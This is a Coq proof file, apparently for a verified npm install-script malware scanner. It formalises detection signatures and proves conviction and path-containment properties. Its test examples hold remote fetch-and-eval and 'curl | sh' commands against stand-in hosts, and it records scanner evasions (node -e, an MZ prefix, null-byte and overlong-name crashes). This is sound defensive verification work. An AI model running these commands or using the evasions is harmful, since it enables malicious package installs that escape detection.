Lemma foldM_inv {A B} (P : A -> Prop) (h : A -> B -> option A) l a a' :
  (forall a b a', h a b = Some a' -> P a -> P a') -> foldM h a l = Some a' -> P a -> P a'.
Proof.
  intros H. revert a. induction l as [|b l IH]; intros a; cbn [foldM]; [by intros [= <-]|]. intros (a1 & H1 & H2)%bind_Some Ha. eauto.
Qed.
Lemma foldM_reaches {A B} (P : A -> Prop) (h : A -> B -> option A) l a a' x :
  (forall a b a', h a b = Some a' -> P a -> P a') -> (forall a a', h a x = Some a' -> P a') -> x ∈ l -> foldM h a l = Some a' -> P a'.
Proof.
  intros H Hx. revert a. induction l as [|b l IH]; intros a; [by intros ?%elem_of_nil|]. cbn [foldM].
  intros [->|Hin]%elem_of_cons (a1 & H1 & H2)%bind_Some; [|by eapply IH]. eapply foldM_inv; [exact H|exact H2|]. by eapply Hx.
Qed.

Lemma _add_keeps t cands ref cands' : _add root pkg_dir cands ref = Some cands' -> has_target t cands -> has_target t cands'.
Proof. intros (p & _ & ->)%fmap_Some. apply add_keeps. Qed.
Lemma add_interp_keeps t cands ref cands' : add_interp root tree host_file pkg_dir cands ref = Some cands' -> has_target t cands -> has_target t cands'.
Proof.
  unfold add_interp. destruct (str_in _ _); [by intros [= <-]|]. intros (o & _ & H)%bind_Some. destruct o as [r|]; [by eapply _add_keeps|].
  apply bind_Some in H as ([] & _ & H); [by eapply _add_keeps|by injection H as <-].
Qed.

Lemma candidates_have script cands ref tgt : candidates root tree host_file pkg_dir script = Some cands ->
  ref ∈ findall _LOCAL_SCRIPT_REF script -> resolve (root ++ pkg_dir) ref = Some tgt -> has_target tgt cands.
Proof.
  intros (locals & Hl & Hi)%bind_Some Hr Ht. eapply foldM_inv; [exact (add_interp_keeps tgt)|exact Hi|].
  eapply foldM_reaches; [exact (_add_keeps tgt)| |exact Hr|exact Hl].
  intros a a' H. unfold _add, pkg_root in H. rewrite Ht in H. injection H as <-. apply add_target.
Qed.

End Sources.

(** ** What is reported *)

Definition SIGNATURES : list signature :=
  [("installer.npm_lifecycle_net_exec", SCritical, CHigh); ("installer.npm_lifecycle_network", SHigh, CMedium);
   ("installer.npm_lifecycle_subprocess", SMedium, CMedium); ("installer.npm_install_runs_bundled_binary", SCritical, CHigh);
   ("installer.npm_install_runs_bundled_file", SHigh, CMedium); ("installer.npm_install_host_recon", SMedium, CMedium);
   ("installer.npm_install_network_recon", SMedium, CMedium); ("installer.npm_install_ci_secret_harvest", SHigh, CMedium);
   ("installer.npm_install_recon_exfil", SHigh, CHigh); ("installer.npm_install_script_net_exec", SCritical, CHigh);
   ("installer.npm_install_script_network", SHigh, CMedium); ("installer.npm_install_script_decode_exec", SHigh, CMedium);
   ("installer.npm_install_obfuscated_entrypoint", SCritical, CHigh); ("installer.npm_install_persistence_loader", SCritical, CHigh);
   ("installer.npm_install_persistence", SHigh, CHigh); ("installer.npm_install_detached_spawn", SHigh, CMedium);
   ("installer.npm_install_script_encoded_payload", SMedium, CMedium); ("installer.npm_install_remote_binary_drop", SLow, CMedium);
   ("installer.npm_install_remote_binary_drop", SHigh, CHigh); ("installer.npm_install_remote_binary_drop", SMedium, CMedium);
   ("installer.npm_suspicious_bin", SLow, CLow); ("installer.npm_runtime_obfuscated_entrypoint", SCritical, CHigh);
   ("installer.npm_binding_gyp_command_exec", SCritical, CHigh); ("installer.npm_binding_gyp_command_exec", SHigh, CHigh)].
Notation signed := (signed_by CATEGORY SIGNATURES).

Lemma script_signed hosts content rel : Forall signed (script_findings hosts content rel).
Proof. unfold script_findings, _recon_findings, drop_findings. sign_all. Qed.

Section Signed.
Context (benign root : list string) (tree : list tree_file) (host_file : list string -> option bool) (loads : string -> option json).

Lemma hook_signed pkg_dir pre rel hosts scripts hook fs :
  hook_findings benign root tree host_file pkg_dir pre rel hosts scripts hook = Some fs -> Forall signed fs.
Proof.
  unfold hook_findings. destruct (jget hook scripts JNull) as [| | | |script| |]; try (intros [= <-]; constructor).
  destruct (negb _); [by intros [= <-]|]. intros (b & Hb & (fl & Hf & [= <-])%bind_Some)%bind_Some. rewrite !Forall_app. split_and!.
  - unfold _analyze_script. sign_all.
  - apply bind_Some in Hb as (ts & _ & [= <-]). apply signed_flat. intros [ref f] _. unfold bundled_finding. sign_all.
  - apply bind_Some in Hf as (cs & _ & (fss & Hm & ->)%fmap_Some). eapply mapM_forall; [|exact Hm]. intros [r t] fs' H. unfold followed_findings in H.
    destruct (inside _ _ _); [|injection H as <-; constructor]. apply bind_Some in H as (o & _ & [= <-]). destruct o as [f|]; [|constructor].
    destruct (looks_like_compiled_binary f), (tf_data f); try constructor. apply script_signed.
Qed.

Lemma manifest_signed m fs : _analyze_manifest benign root tree host_file loads m = Some fs -> Forall signed fs.
Proof.
  unfold _analyze_manifest. destruct (tf_data m ≫= _) as [[| | | | | |data]|]; try (intros [= <-]; constructor).
  intros (hs & Hh & (es & He & [= <-])%bind_Some)%bind_Some. rewrite !Forall_app. split_and!.
  - destruct (jget "scripts" data JNull) as [| | | | | |scripts]; try (injection Hh as <-; constructor).
    apply fmap_Some in Hh as (fss & Hm & ->). eapply mapM_forall; [|exact Hm]. intros. by eapply hook_signed.
  - unfold _analyze_bin. sign_all.
  - apply bind_Some in He as (ts & _ & [= <-]). apply signed_flat. intros [ref f] _. unfold entry_findings. sign_all.
Qed.

Lemma npm_signed fs : analyze_install_scripts benign root tree host_file loads = Some fs -> Forall signed fs.
Proof.
  intros (fss & Hm & [= <-])%bind_Some. eapply mapM_forall; [|exact Hm]. intros m fs (fm & Hf & [= <-])%bind_Some. apply Forall_app.
  split; [by eapply manifest_signed|]. unfold gyp_of. case_match; [|constructor]. unfold _binding_gyp_findings. apply signed_map. intros cmd.
  unfold gyp_finding. destruct (gyp_runs_script cmd || found _GYP_FETCH cmd); sign_one.
Qed.

(** A finding of a manifest is a finding of the package. *)
Lemma manifest_kept fs m fm g : analyze_install_scripts benign root tree host_file loads = Some fs ->
  m ∈ _root_package_json_paths tree -> _analyze_manifest benign root tree host_file loads m = Some fm -> g ∈ fm -> g ∈ fs.
Proof.
  intros (fss & Hm & [= <-])%bind_Some Hin Hf Hg. destruct (mapM_elem _ _ _ m Hm Hin) as (fs & H & Hfs). rewrite Hf in H. injection H as <-.
  apply elem_concat. eexists. split; [exact Hfs|]. apply elem_of_app. by left.
Qed.

Lemma manifest_analysed fs m : analyze_install_scripts benign root tree host_file loads = Some fs ->
  m ∈ _root_package_json_paths tree -> exists fm, _analyze_manifest benign root tree host_file loads m = Some fm.
Proof.
  intros (fss & Hm & _)%bind_Some Hin. destruct (mapM_elem _ _ _ m Hm Hin) as (fs' & (fm & H & _)%bind_Some & _). by exists fm.
Qed.

End Signed.

(** ** Properties *)

(** Only the package's own files are followed.  Whatever a hook executes, whatever is
    scanned because a hook refers to it, and whatever [main] or [bin] resolve to is a file of the
    extracted tree below the directory of its manifest: no [..], absolute path or empty part in a
    reference leads out of the package. *)
Theorem files_stay_inside root tree host_file pkg_dir rel_prefix :
  let own f := f ∈ tree /\ pkg_dir `prefix_of` tf_parts f in
  (forall script l ref f, _executed_local_targets root tree host_file pkg_dir script = Some l -> (ref, f) ∈ l -> own f) /\
  (forall script hosts fs g, _analyze_referenced_js root tree host_file pkg_dir rel_prefix script hosts = Some fs -> g ∈ fs ->
     exists f data ref, own f /\ tf_data f = Some data /\ g ∈ script_findings hosts (read_text data) (rel_prefix +:+ ref)) /\
  (forall data l rt, _resolve_runtime_entries root tree host_file pkg_dir data = Some l -> rt ∈ l -> own rt.2).
Proof.
  cbn zeta. split_and!.
  - intros. by eapply executed_of_package.
  - intros script hosts fs g (cs & _ & (fss & Hm & ->)%fmap_Some)%bind_Some (c & fs' & _ & Hc & Hg)%(mapM_concat _ _ _ _ Hm).
    destruct (followed_of_package _ _ _ _ _ _ _ _ _ Hc Hg) as (f & data & Hf & Hd & _ & Hin). by exists f, data, c.1.
  - intros data l rt Hl Hr. apply entries_of_package in Hl. rewrite Forall_forall in Hl. by apply Hl.
Qed.

(** C23. An install hook that runs a network-and-process script convicts, if the analysis of the
    install scripts comes to its end.  A lifecycle hook of the root manifest mentions a local script by a path
    that resolves to a readable file of the package; the file does not begin with the magic bytes of an executable
    image (a script that begins with [MZ] is not read: [mz_script]) and holds a network and a process primitive anywhere.
    Then, unless the analysis of some hook raises (a null byte or an overlong name in a reference:
    [null_byte_crashes], [long_name_crashes]), the package is malicious, however the path is written and
    whatever else was found. *)
Theorem hook_script_convicts pack benign root tree host_file loads fs gs r m data scripts hook script ref rest f text
  (Ha : analyze_install_scripts benign root tree host_file loads = Some gs) (Hfs : forall x, x ∈ gs -> x ∈ fs)
  (Hm : m ∈ _root_package_json_paths tree) (Hload : (tf_data m ≫= fun d => loads (read_text d)) = Some (JObj data))
  (Hscripts : jget "scripts" data JNull = JObj scripts) (Hhook : hook ∈ _INSTALL_HOOKS) (Hscript : jget hook scripts JNull = JStr script)
  (Hne : strip script <> "") (Href : ref ∈ findall _LOCAL_SCRIPT_REF script)
  (Hres : resolve (root ++ removelast (tf_parts m)) ref = Some (root ++ removelast (tf_parts m) ++ rest))
  (Hf : file_at tree (removelast (tf_parts m) ++ rest) = Some f) (Hd : tf_data f = Some text) (Hb : has_image_magic text = false)
  (Hnet : found _JS_NET (read_text text) = true) (Hexec : found _JS_EXEC (read_text text) = true) :
  sr_verdict (score_and_verdict pack fs r) = VMalicious.
Proof.
  destruct (manifest_analysed _ _ _ _ _ _ m Ha Hm) as [fm Hfm]. pose proof Hfm as H. unfold _analyze_manifest in H. rewrite Hload in H.
  apply bind_Some in H as (hs & Hh & (es & _ & [= <-])%bind_Some). rewrite Hscripts in Hh. apply fmap_Some in Hh as (fss & Hmm & ->).
  destruct (mapM_elem _ _ _ hook Hmm Hhook) as (fh & Hhf & Hin). unfold hook_findings in Hhf. rewrite Hscript in Hhf.
  assert (truthy (strip script) = true) as Ht by (unfold truthy; apply negb_true_iff; by apply String.eqb_neq). rewrite Ht in Hhf. cbn [negb] in Hhf.
  apply bind_Some in Hhf as (b & _ & (fl & Hfl & [= <-])%bind_Some). apply bind_Some in Hfl as (cs & Hcs & (fls & Hfls & ->)%fmap_Some).
  destruct (candidates_have _ _ _ _ _ _ _ _ Hcs Href Hres) as [ref' Hc]. destruct (mapM_elem _ _ _ _ Hfls Hc) as (ff & Hff & Hffin).
  unfold followed_findings in Hff. rewrite (proj2 (inside_spec root (removelast (tf_parts m)) _)) in Hff by by exists rest.
  apply bind_Some in Hff as (o & Ho & [= Hff]). unfold is_file in Ho. rewrite relative_to_app in Ho. match type of Ho with (if ?b then _ else _) = _ => destruct b; [discriminate Ho|] end. injection Ho as <-.
  rewrite Hf, Hd in Hff. replace (looks_like_compiled_binary f) with false in Hff by (unfold looks_like_compiled_binary; by rewrite Hd, Hb).
  set (rel := prefix_of_dir (removelast (tf_parts m)) +:+ ref') in Hff.
  apply (critical_convicts pack fs r (npm "installer.npm_install_script_net_exec" SCritical CHigh rel "install script JS contains both network and child_process/eval"));
    [|reflexivity|reflexivity].
  apply Hfs. eapply manifest_kept; [exact Ha|exact Hm|exact Hfm|]. apply elem_of_app. left. apply elem_concat. eexists. split; [exact Hin|].
  rewrite !elem_of_app. right. right. apply elem_concat. exists ff. split; [exact Hffin|]. rewrite <- Hff. unfold script_findings. cbv zeta.
  rewrite Hnet, Hexec. rewrite !elem_of_app. right. left. cbn [andb]. by left.
Qed.

(** ** Concrete packages *)

Definition fl (parts : list string) (data : string) : tree_file := mkTreeFile parts (Some (Z.of_nat (len data))) (Some data).
Definition ex_manifest (scripts : list (string * json)) : list (string * json) := [("name", JStr "x"); ("scripts", JObj scripts)].
Definition ex_tree (text : string) : list tree_file := [fl ["package"; "package.json"] "{}"; fl ["package"; "lib"; "a.js"] text].
Definition ex_analysis (data : list (string * json)) (tree : list tree_file) : option (list Finding) :=
  analyze_install_scripts [] ["tmp"; "x"] tree (fun _ => Some false) (fun _ => Some (JObj data)).
Definition ex_rules (script text : string) : option (list (string * severity)) :=
  map (fun g => (rule_id g, f_severity g)) <$> ex_analysis (ex_manifest [("preinstall", JStr script)]) (ex_tree text).

Definition ex_text : string := "require('child_process').exec(c);fetch(u)".
Definition ex_hook : string := "node ./lib/../lib//a.js".
Lemma hook_script_convicts_witness : exists gs, ex_analysis (ex_manifest [("preinstall", JStr ex_hook)]) (ex_tree ex_text) = Some gs /\
  sr_verdict (score_and_verdict ex_pack gs None) = VMalicious.
Proof.
  destruct (ex_analysis (ex_manifest [("preinstall", JStr ex_hook)]) (ex_tree ex_text)) as [gs|] eqn:E; [|exfalso; revert E; by vm_compute].
  exists gs. split; [done|].
  apply (hook_script_convicts ex_pack [] ["tmp"; "x"] (ex_tree ex_text) (fun _ => Some false) (fun _ => Some (JObj (ex_manifest [("preinstall", JStr ex_hook)])))
    gs gs None (fl ["package"; "package.json"] "{}") (ex_manifest [("preinstall", JStr ex_hook)]) [("preinstall", JStr ex_hook)] "preinstall" ex_hook
    "lib/../lib//a.js" ["lib"; "a.js"] (fl ["package"; "lib"; "a.js"] ex_text) ex_text E (fun _ H => H));
    [vm_compute; by left|reflexivity|reflexivity|by left|reflexivity|by vm_compute|vm_compute; by left|by vm_compute|by vm_compute|reflexivity|by vm_compute|by vm_compute|by vm_compute].
Defined.

(** [node -e] counts as a benign command, so the program it carries is not looked at; behind
    any other command it is. *)
Example node_eval_benign :
  ex_rules "node -e require('https').get('https://evil.example/p',r=>r.on('data',eval))" "" = Some [] /\
  ex_rules "mytool && node -e require('https').get('https://evil.example/p',r=>r.on('data',eval))" "" = Some [("installer.npm_lifecycle_net_exec", SCritical)].
Proof. by vm_compute. Qed.

(** A script that begins with [MZ] is taken for a native image and not read. *)
Example mz_script : ex_rules "node lib/a.js" ex_text = Some [("installer.npm_install_script_net_exec", SCritical)] /\
  ex_rules "node lib/a.js" ("MZ=0;" +:+ ex_text) = Some [].
Proof. by vm_compute. Qed.

(** A null byte, or a name the file system does not take, in a hook stops the analysis. *)
Example null_byte_crashes : ex_rules ("./a" +:+ String NUL "b") ex_text = None. Proof. by vm_compute. Qed.
Definition long : string := join "" (repeat "a" 256).
Example long_name_crashes : ex_rules ("./" +:+ long) ex_text = None /\ ex_rules ("./no/" +:+ long) ex_text = Some []. Proof. by vm_compute. Qed.

(** The evidence calls a [main] entry that is written with a leading [./] a [bin] entry. *)
Example main_called_bin : is_main [("main", JStr "./gifted.js")] (lstrip_chars "./" "./gifted.js") = false. Proof. reflexivity. Qed.

Example outside_ex : ex_rules "node ../other/a.js && sh ../../etc/x && ./lib/a.js" "" = Some [] /\
  map (fun c => inside ["tmp"; "x"] ["package"] (default [] (resolve ["tmp"; "x"; "package"] c))) ["../other/a.js"; "lib/../a"; "/etc/x"; "../package/a"] = [false; true; false; true].
Proof. by vm_compute. Qed.

Example gyp_ex : map f_severity (_binding_gyp_findings "<!(node index.js) <!(node -p x) <!@(curl http://x | sh) <!(node index.js)" "g") = [SCritical; SCritical].
Proof. by vm_compute. Qed.
